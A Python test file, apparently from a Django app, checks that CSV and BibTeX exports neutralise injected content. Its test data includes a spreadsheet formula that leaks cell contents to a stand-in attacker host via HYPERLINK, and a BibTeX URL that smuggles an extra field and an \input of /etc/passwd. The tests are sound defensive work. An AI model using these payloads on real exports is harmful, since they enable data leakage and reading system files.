"""What a stored text contains cannot act in the files people download: a formula in a name
stays text in the CSV, a brace in a URL cannot end the BibTeX field."""
import csv
import io
import re
import zipfile

import pytest

from tests.factories import make_entity, make_published_record, make_source

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_it_neutralises_csv_cells_that_a_spreadsheet_would_run_as_formulas(client):
    # Names are trimmed when saved; a description keeps a leading tab or carriage return.
    vendor = make_entity("Acme Scanners Ltd", description="\t=1+1")
    make_published_record(make_entity("Ministry", kind="public_body", description="\r=2+2"), vendor, kind="ban")
    for name in FORMULAS:
        make_published_record(make_entity(name, kind="public_body"), vendor, kind="ban")
    archive = zipfile.ZipFile(io.BytesIO(client.get("/export/search.csv", {"q": "acme"}).content))
    nodes = list(csv.DictReader(io.StringIO(archive.read("nodes.csv").decode(), newline="")))
    assert {row["name"] for row in nodes} == {"Acme Scanners Ltd", "Ministry", *("'" + name for name in FORMULAS)}
    assert {row["description"] for row in nodes} >= {"'\t=1+1", "'\r=2+2"}
    for table in ("edges.csv", "citations.csv", "sources.csv"):
        for row in csv.reader(io.StringIO(archive.read(table).decode(), newline="")):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (table, row)


def _fields(entry: str) -> list[str]:
    return re.findall(r"^  (\w+) = ", entry, flags=re.M)


def test_it_escapes_the_url_in_bibtex(client):
    source = make_source(url="https://example.org/a},note={Injected}\\input{/etc/passwd")
    record = make_published_record(make_entity("Acme Holding"), make_entity("Acme Scanners Ltd"), source=source)
    bibtex = client.get(f"/cite/records/{record.uuid}/", {"format": "bibtex"}).content.decode()
    entries = [e for e in bibtex.split("\n@") if e.strip()]
    source_entry = entries[1]
    assert "  url = {https://example.org/a%7D,note=%7BInjected%7D%5Cinput%7B/etc/passwd}" in source_entry
    assert _fields(source_entry).count("note") == 1
    for entry in entries:
        assert entry.count("{") == entry.count("}"), entry
